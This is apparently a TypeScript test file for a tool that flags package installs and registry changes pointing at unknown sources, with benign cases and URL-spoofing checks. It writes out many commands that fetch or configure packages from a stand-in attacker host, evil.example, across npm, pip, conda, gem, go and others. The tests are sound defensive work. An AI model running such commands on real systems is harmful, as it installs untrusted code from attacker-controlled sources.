import { describe, expect, it } from 'vitest';
import { analyse } from '../../analyse.ts';
import { linesOf, SURROUNDINGS } from '../testing/told.ts';
import { isForeignRegistry } from './registries.ts';

const lines = (line: string) => linesOf(analyse(line, SURROUNDINGS)).join('\n');

describe('packages from a registry that nobody knows', () => {
  it.each([
    'npm i x --registry http://evil.example',
    'npx --registry=https://evil.example x',
    'pip install -i http://evil.example/simple x',
    'pip install --extra-index-url https://evil.example/simple x',
    'pip install --find-links http://evil.example x',
    'uv pip install --index-url https://evil.example x',
    'conda install -c https://evil.example x',
    'gem install x --source http://evil.example',
    'pip config set global.index-url http://evil.example',
    'pip config set global.extra-index-url "https://pypi.org/simple https://evil.example"',
    'poetry source add evil http://evil.example',
    'gem sources --add http://evil.example',
    'bundle config mirror.https://rubygems.org http://evil.example',
    'composer config repositories.x vcs https://evil.example/x',
    'go env -w GOPROXY=https://proxy.golang.org,http://evil.example',
    'conda config --add channels https://evil.example',
    'helm plugin install https://evil.example/x',
    'mix archive.install https://evil.example/x.ez',
  ])('%s', (line) => {
    expect(lines(line)).toMatch(/package\.install .*source=(?:url|git)/);
  });

  it.each([
    'gh extension install evil/x',
    'nix run github:evil/x',
    'mix archive.install github e/x',
  ])('from a repository: %s', (line) => {
    expect(lines(line)).toMatch(/package\.install .*source=git/);
  });

  it.each([
    'npm i x --registry=http://localhost:4873',
    'npm i x --registry=https://registry.npmmirror.com',
    'pip install torch --index-url https://download.pytorch.org/whl/cu121',
    'pip install -r requirements.txt -c constraints.txt',
    'pip install -f wheels x',
    'conda install -c conda-forge x',
    'pip config set global.timeout 60',
    'pip config list',
    'poetry source add t https://download.pytorch.org/whl/cpu',
    'gem sources --list',
    'bundle config set --local path vendor/bundle',
    'composer config repositories.x path ../x',
    'go env -w GOPROXY=https://goproxy.cn,direct',
    'gh extension install github/gh-copilot',
    'nix run nixpkgs#hello',
    'nix run github:NixOS/nixpkgs#hello',
    'mix archive.install hex phx_new',
  ])('not %s', (line) => {
    expect(lines(line)).not.toMatch(/source=(?:url|git)/);
  });

  it.each([
    ['https://user:pw@pypi.org/simple', false],
    ['https://pypi.org.evil.example/simple', true],
    ['https://pypi.org@evil.example/simple', true],
    ['https://us-python.pkg.dev/p/r/simple', false],
    ['evil=https://evil.example', true],
    ['PYPI.ORG', false],
    ['HTTPS://PYPI.ORG/simple', false],
  ])('%s', (address, isForeign) => {
    expect(isForeignRegistry(address)).toBe(isForeign);
  });
});
